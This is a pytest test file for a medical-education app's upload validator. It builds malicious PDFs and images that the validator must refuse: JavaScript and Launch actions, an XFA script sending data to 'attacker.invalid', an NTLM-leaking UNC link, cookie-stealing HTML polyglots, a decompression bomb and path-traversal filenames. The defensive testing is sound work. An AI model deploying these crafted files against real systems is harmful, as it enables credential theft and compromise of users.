"""Upload validation against a fuzz corpus generated here (security-checks row 16).

Every hostile file must be refused with a message a clinician can act on, and the parsing
happens in a resource-limited child process.
"""

import io
import subprocess

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from cmepath.core import filecheck
from cmepath.core.filecheck import (
    FileVerdict,
    UploadRejected,
    display_name,
    extract_pdf_text,
    inspect_upload,
    sniff_kind,
)

MiB = 1024 * 1024


# --- corpus builders ------------------------------------------------------------------------


def _name(value: str) -> NameObject:
    return NameObject(value)


def _dict(**entries) -> DictionaryObject:
    return DictionaryObject({_name("/" + key): value for key, value in entries.items()})


def _certificate_writer() -> PdfWriter:
    """A one-page PDF that says "Certificate of Completion" in Helvetica."""
    writer = PdfWriter()
    page = writer.add_blank_page(612, 792)
    font = _dict(Type=_name("/Font"), Subtype=_name("/Type1"), BaseFont=_name("/Helvetica"))
    page[_name("/Resources")] = _dict(Font=_dict(F1=font))
    content = DecodedStreamObject()
    content.set_data(b"BT /F1 18 Tf 72 700 Td (Certificate of Completion) Tj ET")
    page[_name("/Contents")] = writer._add_object(content)
    return writer


def _bytes(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _pdf() -> bytes:
    return _bytes(_certificate_writer())


def _pdf_with_javascript_name_tree() -> bytes:
    writer = _certificate_writer()
    action = _dict(S=_name("/JavaScript"), JS=TextStringObject("app.alert('hi')"))
    names = ArrayObject([TextStringObject("x"), writer._add_object(action)])
    writer._root_object[_name("/Names")] = _dict(JavaScript=_dict(Names=names))
    return _bytes(writer)


def _pdf_with_open_action(action_type: str, **extra) -> bytes:
    writer = _certificate_writer()
    writer._root_object[_name("/OpenAction")] = _dict(S=_name(action_type), **extra)
    return _bytes(writer)


def _pdf_with_attachment() -> bytes:
    writer = _certificate_writer()
    writer.add_attachment("payload.exe", b"MZ not really a program")
    return _bytes(writer)


def _pdf_with_page_additional_actions() -> bytes:
    writer = _certificate_writer()
    open_action = _dict(S=_name("/URI"), URI=TextStringObject("https://example.invalid/"))
    writer.pages[0][_name("/AA")] = _dict(O=open_action)
    return _bytes(writer)


XFA_TEMPLATE = b"""<?xml version="1.0" encoding="UTF-8"?>
<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
  <subform name="form1">
    <event activity="initialize">
      <script contentType="application/x-javascript">
        xfa.host.gotoURL("https://attacker.invalid/?c=" + xfa.host.documentCountInBatch);
      </script>
    </event>
  </subform>
</template>"""


def _pdf_with_compressed_xfa_script() -> bytes:
    """An XFA form whose template packet (FlateDecode-compressed) holds a script."""
    writer = _certificate_writer()
    packet = DecodedStreamObject()
    packet.set_data(XFA_TEMPLATE)
    compressed = packet.flate_encode()
    xfa = ArrayObject([TextStringObject("template"), writer._add_object(compressed)])
    writer._root_object[_name("/AcroForm")] = _dict(Fields=ArrayObject(), XFA=xfa)
    return _bytes(writer)


def _pdf_with_link(action: DictionaryObject, subtype: str = "/Link") -> bytes:
    """A clickable rectangle on page 1 whose /A is ``action``."""
    writer = _certificate_writer()
    rect = ArrayObject([FloatObject(72), FloatObject(72), FloatObject(200), FloatObject(100)])
    annotation = _dict(Type=_name("/Annot"), Subtype=_name(subtype), Rect=rect, A=action)
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _bytes(writer)


def _pdf_with_annotation(subtype: str, **extra) -> bytes:
    writer = _certificate_writer()
    rect = ArrayObject([FloatObject(72), FloatObject(72), FloatObject(200), FloatObject(100)])
    annotation = _dict(Type=_name("/Annot"), Subtype=_name(subtype), Rect=rect, **extra)
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _bytes(writer)


UNC_PATH = "\\\\server\\share\\certificate.pdf"


def _pdf_with_gotor_to_unc_path() -> bytes:
    destination = ArrayObject([NumberObject(0), _name("/Fit")])
    action = _dict(S=_name("/GoToR"), F=TextStringObject(UNC_PATH), D=destination)
    return _pdf_with_link(action)


def _pdf_with_uri_open_action() -> bytes:
    return _pdf_with_open_action("/URI", URI=TextStringObject("https://tracker.invalid/open"))


def _encrypted_pdf() -> bytes:
    writer = _certificate_writer()
    writer.encrypt(user_password="secret", owner_password="owner")
    return _bytes(writer)


def _deeply_nested_pdf(depth: int) -> bytes:
    """Hand-built PDF whose catalog holds an array nested ``depth`` levels deep."""
    nested = b"[" * depth + b"0" + b"]" * depth
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Deep " + nested + b" >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _image(fmt: str, size=(320, 200), mode="RGB") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, "white" if mode != "1" else 1).save(buffer, fmt)
    return buffer.getvalue()


def _reject(data, filename, **kwargs) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(data, filename, **kwargs)
    return caught.value


# --- accepted files ---------------------------------------------------------------------------


def test_valid_pdf_is_accepted_with_facts_to_store():
    data = _pdf()

    verdict = inspect_upload(data, "certificate.pdf")

    assert isinstance(verdict, FileVerdict)
    assert verdict.kind == "pdf"
    assert verdict.mime == "application/pdf"
    assert verdict.size == len(data)
    assert len(verdict.sha256) == 64
    assert verdict.safe_name_ext == ".pdf"
    assert verdict.pages == 1


@pytest.mark.parametrize(
    ("fmt", "filename", "kind", "mime", "ext"),
    [
        ("PNG", "scan.png", "png", "image/png", ".png"),
        ("JPEG", "photo.jpg", "jpeg", "image/jpeg", ".jpg"),
        ("JPEG", "photo.JPEG", "jpeg", "image/jpeg", ".jpg"),
    ],
)
def test_valid_images_are_accepted(fmt, filename, kind, mime, ext):
    verdict = inspect_upload(_image(fmt), filename)

    assert (verdict.kind, verdict.mime, verdict.safe_name_ext, verdict.pages) == (
        kind,
        mime,
        ext,
        None,
    )


def test_benign_open_action_is_accepted():
    # Many generators add /OpenAction /GoTo to set the first view; that is not active content.
    writer = _certificate_writer()
    destination = ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")])
    writer._root_object[_name("/OpenAction")] = _dict(S=_name("/GoTo"), D=destination)

    assert inspect_upload(_bytes(writer), "c.pdf").pages == 1


def test_path_input_is_accepted(tmp_path):
    path = tmp_path / "upload.bin"
    path.write_bytes(_pdf())

    assert inspect_upload(path, "certificate.pdf").kind == "pdf"
    assert inspect_upload(str(path), "certificate.pdf").kind == "pdf"


def test_extract_pdf_text_reads_the_certificate():
    text = extract_pdf_text(_pdf())

    assert "Certificate of Completion" in text


def test_extract_pdf_text_refuses_non_pdf():
    with pytest.raises(UploadRejected) as caught:
        extract_pdf_text(_image("PNG"))

    assert caught.value.code == "type_mismatch"


# --- refused files ----------------------------------------------------------------------------


def test_empty_file():
    rejected = _reject(b"", "certificate.pdf")

    assert rejected.code == "empty"
    assert "empty" in rejected.message


def test_file_over_the_limit_says_the_limit():
    data = b"%PDF-1.4\n" + b"0" * (11 * MiB)

    rejected = _reject(data, "big.pdf")

    assert rejected.code == "too_large"
    assert rejected.message == "The file is 11.0 MiB; the limit is 10 MiB."


def test_file_over_the_limit_is_refused_from_its_size_on_disk(tmp_path):
    path = tmp_path / "big.pdf"
    path.write_bytes(b"\0" * (11 * MiB))

    rejected = _reject(path, "big.pdf")

    assert rejected.code == "too_large"
    assert "the limit is 10 MiB" in rejected.message


def test_png_named_pdf_says_what_it_really_is():
    rejected = _reject(_image("PNG"), "certificate.pdf")

    assert rejected.code == "type_mismatch"
    assert rejected.message.startswith("The file is named .pdf but its content is a PNG image.")


def test_pdf_named_jpg_is_a_mismatch():
    rejected = _reject(_pdf(), "photo.jpg")

    assert rejected.code == "type_mismatch"
    assert "named .jpg but its content is a PDF document" in rejected.message


def test_missing_extension_is_a_mismatch():
    rejected = _reject(_pdf(), "certificate")

    assert rejected.code == "type_mismatch"
    assert "named without an extension" in rejected.message


@pytest.mark.parametrize(
    ("data", "filename", "label"),
    [
        (b"GIF89a" + b"\0" * 32, "anim.gif", "a GIF image"),
        (b"PK\x03\x04" + b"\0" * 32, "cert.docx", "a ZIP archive (or an Office document)"),
        (b"MZ\x90\x00" + b"\0" * 32, "cert.exe", "a program"),
        (b"<!DOCTYPE html><html><body>hi</body></html>", "cert.html", "an HTML page"),
    ],
)
def test_types_not_allowed_list_the_allowed_ones(data, filename, label):
    rejected = _reject(data, filename)

    assert rejected.code == "type_not_allowed"
    assert rejected.message == (f"The file is {label}; only JPEG, PDF or PNG files are accepted.")


def test_allowed_set_narrows_the_types():
    rejected = _reject(_image("PNG"), "scan.png", allowed={"pdf"})

    assert rejected.code == "type_not_allowed"
    assert rejected.message == "The file is a PNG image; only PDF files are accepted."


def test_unknown_content():
    rejected = _reject(b"just some text, nothing more", "notes.pdf")

    assert rejected.code == "unknown_type"
    assert "could not recognise" in rejected.message


def test_truncated_pdf():
    data = _pdf()

    rejected = _reject(data[: len(data) // 2], "certificate.pdf")

    assert rejected.code == "unparseable"
    assert "damaged or incomplete" in rejected.message


def test_truncated_pdf_with_forged_trailer_is_caught_by_the_parser():
    data = _pdf()
    forged = data[: len(data) // 3] + b"\n%%EOF\n"

    rejected = _reject(forged, "certificate.pdf")

    assert rejected.code == "unparseable"


def test_pdf_header_followed_by_html_is_refused():
    polyglot = (
        b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n"
    )

    rejected = _reject(polyglot, "certificate.pdf")

    assert rejected.code in {"active_content", "unparseable"}
    assert rejected.message


def test_valid_pdf_with_html_appended_is_refused():
    polyglot = _pdf() + b"<script>fetch('/steal')</script>\n%%EOF\n"

    rejected = _reject(polyglot, "certificate.pdf")

    assert rejected.code == "active_content"
    assert "web-page" in rejected.message


@pytest.mark.parametrize(
    ("builder", "named"),
    [
        (_pdf_with_javascript_name_tree, "JavaScript"),
        (
            lambda: _pdf_with_open_action("/JavaScript", JS=TextStringObject("app.alert(1)")),
            "JavaScript",
        ),
        (lambda: _pdf_with_open_action("/Launch", F=TextStringObject("calc.exe")), "launch action"),
        (_pdf_with_attachment, "embedded file"),
        (_pdf_with_page_additional_actions, "automatic actions"),
    ],
    ids=["javascript", "openaction-js", "launch", "embedded-file", "additional-actions"],
)
def test_pdf_with_active_content_is_refused_and_named(builder, named):
    rejected = _reject(builder(), "certificate.pdf")

    assert rejected.code == "active_content"
    assert named in rejected.message
    assert "print it to a new PDF" in rejected.message


def test_compressed_xfa_script_is_refused():
    # given an XFA form whose script sits in a FlateDecode-compressed packet
    data = _pdf_with_compressed_xfa_script()
    assert b"<script" not in data and b"javascript" not in data.lower()

    # when it is uploaded, then it is refused, and the message says why
    rejected = _reject(data, "certificate.pdf")

    assert rejected.code == "active_content"
    assert "XFA form with a script" in rejected.message
    assert "print it to a new PDF" in rejected.message


def test_gotor_to_a_unc_path_is_refused():
    # A remote go-to on a Windows share leaks the viewer's NTLM credentials when followed.
    data = _pdf_with_gotor_to_unc_path()
    action = PdfReader(io.BytesIO(data)).pages[0]["/Annots"][0].get_object()["/A"]
    assert (action["/S"], action["/F"]) == ("/GoToR", "\\\\server\\share\\certificate.pdf")

    rejected = _reject(data, "certificate.pdf")

    assert rejected.code == "active_content"
    assert "opens another file" in rejected.message


def test_uri_open_action_is_refused():
    rejected = _reject(_pdf_with_uri_open_action(), "certificate.pdf")

    assert rejected.code == "active_content"
    assert "link to a web address" in rejected.message


@pytest.mark.parametrize(
    ("builder", "named"),
    [
        (
            lambda: _pdf_with_link(
                _dict(S=_name("/URI"), URI=TextStringObject("https://x.invalid"))
            ),
            "link to a web address",
        ),
        (
            lambda: _pdf_with_link(_dict(S=_name("/Launch"), F=TextStringObject("cmd.exe"))),
            "launch action",
        ),
        (
            lambda: _pdf_with_link(
                _dict(S=_name("/SubmitForm"), F=TextStringObject("https://x.invalid/post")),
                subtype="/Widget",
            ),
            "form-submission action",
        ),
        (
            lambda: _pdf_with_open_action("/ImportData", F=TextStringObject("data.fdf")),
            "data-import action",
        ),
        (
            lambda: _pdf_with_open_action("/GoToE", NewWindow=_name("/true")),
            "opens an embedded file",
        ),
        (lambda: _pdf_with_open_action("/Sound"), "a sound"),
        (lambda: _pdf_with_open_action("/Movie"), "a movie"),
        (lambda: _pdf_with_open_action("/Rendition"), "embedded media"),
        (
            lambda: _pdf_with_link(
                _dict(
                    S=_name("/GoTo"),
                    D=ArrayObject([NumberObject(0), _name("/Fit")]),
                    Next=_dict(S=_name("/URI"), URI=TextStringObject("https://x.invalid")),
                )
            ),
            "link to a web address",
        ),
        (lambda: _pdf_with_annotation("/FileAttachment"), "attached file"),
        (lambda: _pdf_with_annotation("/Sound"), "a sound"),
        (lambda: _pdf_with_annotation("/Movie"), "a movie"),
        (lambda: _pdf_with_annotation("/Screen"), "embedded media"),
        (lambda: _pdf_with_annotation("/RichMedia"), "rich media"),
        (lambda: _pdf_with_annotation("/3D"), "3D content"),
    ],
    ids=[
        "link-uri",
        "link-launch",
        "widget-submitform",
        "importdata",
        "gotoe",
        "sound-action",
        "movie-action",
        "rendition-action",
        "next-chain-uri",
        "fileattachment-annot",
        "sound-annot",
        "movie-annot",
        "screen-annot",
        "richmedia-annot",
        "3d-annot",
    ],
)
def test_every_action_and_annotation_that_can_run_or_fetch_is_refused(builder, named):
    rejected = _reject(builder(), "certificate.pdf")

    assert rejected.code == "active_content"
    assert named in rejected.message


def test_xfa_form_without_a_script_is_still_refused():
    writer = _certificate_writer()
    packet = DecodedStreamObject()
    packet.set_data(b"<template><subform name='f'/></template>")
    xfa = ArrayObject([TextStringObject("template"), writer._add_object(packet.flate_encode())])
    writer._root_object[_name("/AcroForm")] = _dict(Fields=ArrayObject(), XFA=xfa)

    rejected = _reject(_bytes(writer), "certificate.pdf")

    assert rejected.code == "active_content"
    assert "XFA form" in rejected.message


def test_internal_link_to_a_page_is_accepted():
    # Guards the refusals above: a link within the document fetches and runs nothing.
    writer = _certificate_writer()
    destination = ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")])
    rect = ArrayObject([FloatObject(72), FloatObject(72), FloatObject(200), FloatObject(100)])
    link = _dict(
        Type=_name("/Annot"),
        Subtype=_name("/Link"),
        Rect=rect,
        A=_dict(S=_name("/GoTo"), D=destination),
    )
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(link)])

    assert inspect_upload(_bytes(writer), "c.pdf").pages == 1


def test_obfuscated_javascript_name_is_still_found():
    # "/J#61vaScript" is "/JavaScript" with a hex escape; a byte scan would miss it.
    data = _pdf_with_javascript_name_tree()
    obfuscated = data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    assert b"/JavaScript" not in obfuscated

    rejected = _reject(obfuscated, "certificate.pdf")

    assert rejected.code == "active_content"
    assert "JavaScript" in rejected.message


def test_encrypted_pdf():
    rejected = _reject(_encrypted_pdf(), "certificate.pdf")

    assert rejected.code == "encrypted"
    assert "password-protected or encrypted" in rejected.message


@pytest.mark.parametrize("depth", [200, 5000])
def test_deeply_nested_pdf_is_refused(depth):
    rejected = _reject(_deeply_nested_pdf(depth), "certificate.pdf")

    assert rejected.code in {"too_complex", "unparseable"}


def test_shallow_hand_built_pdf_is_accepted():
    # Guards the nesting test: the same hand-built file without deep nesting passes.
    assert inspect_upload(_deeply_nested_pdf(3), "certificate.pdf").pages == 1


def test_decompression_bomb_png():
    # 12,000 x 12,000 1-bit pixels: a few KiB on disk, 144 megapixels once decoded.
    bomb = _image("PNG", size=(12_000, 12_000), mode="1")
    assert len(bomb) < 100 * 1024

    rejected = _reject(bomb, "scan.png")

    assert rejected.code == "too_many_pixels"
    assert "40 megapixels" in rejected.message


def test_pixel_budget_is_configurable():
    rejected = _reject(_image("PNG", size=(2000, 1000)), "scan.png", max_pixels=1_000_000)

    assert rejected.code == "too_many_pixels"


@pytest.mark.parametrize(("fmt", "filename"), [("PNG", "scan.png"), ("JPEG", "scan.jpg")])
def test_truncated_image(fmt, filename):
    data = _image(fmt, size=(400, 400))

    rejected = _reject(data[: len(data) // 2], filename)

    assert rejected.code == "unparseable"
    assert "damaged or incomplete" in rejected.message


def test_probe_runs_under_memory_cpu_and_file_limits():
    answer = filecheck._run_probe(b"", "limits")

    assert answer["ok"] is True
    assert answer["as"] == 256 * MiB
    assert 2 <= answer["cpu"] <= 4  # 2 s for the file, plus the interpreter's start-up
    assert answer["fsize"] == 0


def test_probe_killed_by_its_limits_is_a_clear_refusal(monkeypatch):
    # What the parent sees when the child dies from RLIMIT_CPU/RLIMIT_AS: no JSON answer.
    def killed(*args, **kwargs):
        return subprocess.CompletedProcess(args, -24, stdout=b"", stderr=b"")

    monkeypatch.setattr(filecheck.subprocess, "run", killed)

    rejected = _reject(_pdf(), "certificate.pdf")

    assert rejected.code == "too_complex"
    assert "more memory or time" in rejected.message


def test_probe_timeout_is_a_clear_refusal(monkeypatch):
    def slow(*args, **kwargs):
        raise subprocess.TimeoutExpired(cmd="probe", timeout=15)

    monkeypatch.setattr(filecheck.subprocess, "run", slow)

    rejected = _reject(_pdf(), "certificate.pdf")

    assert rejected.code == "too_complex"
    assert "took too long" in rejected.message


# --- filenames --------------------------------------------------------------------------------


def test_path_traversal_filename_is_judged_by_content_and_shown_without_path():
    verdict = inspect_upload(_pdf(), "../../x.pdf")

    assert verdict.kind == "pdf"
    assert display_name("../../x.pdf") == "x.pdf"


def test_rtl_override_filename():
    # Shows as "cert" + "fdp.jpg" reversed ... but the real extension is .pdf.
    tricky = "cert\u202egpj.pdf"

    assert display_name(tricky) == "certgpj.pdf"
    assert inspect_upload(_pdf(), tricky).kind == "pdf"
    rejected = _reject(_image("JPEG"), tricky)
    assert "named .pdf but its content is a JPEG image" in rejected.message


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("../../x.pdf", "x.pdf"),
        ("..\\..\\Windows\\system32\\evil.pdf", "evil.pdf"),
        ("C:\\Users\\me\\Desktop\\CME cert.pdf", "CME cert.pdf"),
        ("/etc/passwd", "passwd"),
        ("a\x00b\x1b[31m.pdf", "ab[31m.pdf"),
        ("zero\u200bwidth\u2066iso\u2069.png", "zerowidthiso.png"),
        ("  spaced   out\n name.pdf  ", "spaced out name.pdf"),
        ("....", "upload"),
        ("", "upload"),
        ("..", "upload"),
        (".htaccess", "htaccess"),
    ],
)
def test_display_name_strips_paths_controls_and_bidi(raw, shown):
    assert display_name(raw) == shown


def test_display_name_truncates_long_names_keeping_the_extension():
    shown = display_name("a" * 500 + ".pdf")

    assert len(shown) <= 120
    assert shown.endswith("….pdf")


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"%PDF-1.7\n", "pdf"),
        (b"\x89PNG\r\n\x1a\n", "png"),
        (b"\xff\xd8\xff\xe0", "jpeg"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'></svg>", "svg"),
        (b"hello", None),
    ],
)
def test_sniff_kind(data, kind):
    assert sniff_kind(data) == kind
